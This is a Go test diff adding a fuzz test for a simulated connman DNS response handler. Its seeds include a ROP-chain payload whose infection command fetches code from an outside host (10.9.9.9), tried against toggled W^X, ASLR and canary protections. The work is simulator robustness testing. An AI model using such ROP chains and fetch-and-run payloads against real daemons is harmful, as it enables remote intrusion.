@@ -1,6 +1,7 @@
 package connman
 
 import (
+	"encoding/binary"
 	"net/netip"
 	"testing"
 
@@ -205,6 +206,58 @@ func TestResponseIDMismatchIgnored(t *testing.T) {
 	if d.Proc() == nil || !d.Proc().Alive() {
 		t.Fatal("daemon died")
 	}
+}
+
+// FuzzConnmanResponse feeds arbitrary bytes to a fresh daemon's DNS
+// response handler, with the pending query ID patched into the first
+// two bytes so the input reaches the vulnerable copy. The first
+// argument picks the Dev's W^X/ASLR/canary set. Hostile bytes may
+// crash the simulated daemon; they must never panic the Go process.
+func FuzzConnmanResponse(f *testing.F) {
+	chain, err := exploit.BuildROPChain(imagecat.Connman(), imagecat.ConnmanBufSize,
+		exploit.InfectionCommand("http://10.9.9.9/x"))
+	if err != nil {
+		f.Fatal(err)
+	}
+	q := dnsmsg.NewQuery(1, DefaultHostname, dnsmsg.TypeA)
+	benign := dnsmsg.NewResponse(q, dnsmsg.TypeA, 300, []byte{93, 184, 216, 34}).Encode()
+	for prot := byte(0); prot < 8; prot++ {
+		f.Add(prot, dnsmsg.NewResponse(q, dnsmsg.TypeA, 300, chain).Encode())
+	}
+	f.Add(byte(0), benign)
+	f.Add(byte(0), benign[:11]) // truncated header
+	f.Add(byte(0), []byte{
+		0, 1, 0x81, 0x80, 0, 1, 0, 1, 0, 0, 0, 0, // response, 1 question, 1 answer
+		1, 'a', 0, 0, 1, 0, 1, // a. A IN
+		0xc0, 12, 0, 1, 0, 1, 0, 0, 1, 44, 0, 4, 10, 0, 0, 1, // answer named by a pointer to the question's name
+	})
+	f.Add(byte(0), append([]byte{0, 1, 0x81, 0x80, 0, 1, 0, 0, 0, 0, 0, 0, 64}, make([]byte, 64)...)) // 64-byte label
+	f.Fuzz(func(t *testing.T, prot byte, data []byte) {
+		r := newRig(t)
+		server := r.star.AttachHost("dns", 10*netsim.Mbps, sim.Millisecond, 0)
+		c := r.devContainer(t, "dev")
+		c.FS().Write("/etc/resolv.conf", []byte("nameserver "+server.Addr4().String()+"\n"))
+		d := New(Config{
+			Protections: procvm.Protections{WX: prot&1 != 0, ASLR: prot&2 != 0, Canary: prot&4 != 0},
+			QueryPeriod: sim.Second,
+		})
+		c.Spawn(d)
+		if err := r.sched.Run(sim.Second); err != nil {
+			t.Fatal(err)
+		}
+		if d.QueriesSent == 0 {
+			t.Fatal("daemon sent no query")
+		}
+		msg := append([]byte(nil), data...)
+		if len(msg) >= 2 {
+			binary.BigEndian.PutUint16(msg, d.pendingID)
+		}
+		d.onDatagram(netip.AddrPortFrom(server.Addr4(), 53), msg, len(msg))
+		// Let a crash exit, or a hijack's shell run.
+		if err := r.sched.Run(5 * sim.Second); err != nil {
+			t.Fatal(err)
+		}
+	})
 }
 
 func TestFactoryAndName(t *testing.T) {
